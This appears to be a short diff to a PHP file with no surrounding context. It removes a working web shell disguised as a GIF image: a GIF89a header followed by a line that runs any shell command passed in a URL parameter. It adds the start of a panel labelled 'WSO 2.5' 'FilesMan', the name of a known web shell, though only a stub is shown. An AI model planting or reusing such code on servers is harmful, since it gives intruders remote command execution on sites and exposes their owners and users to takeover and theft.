@@ -1,2 +1,4 @@
-GIF89a
-<?php system($_GET['c']); ?>
+<?php
+// FilesMan panel
+$a = $_POST['a'] ?? 'FilesMan';
+echo 'WSO 2.5';
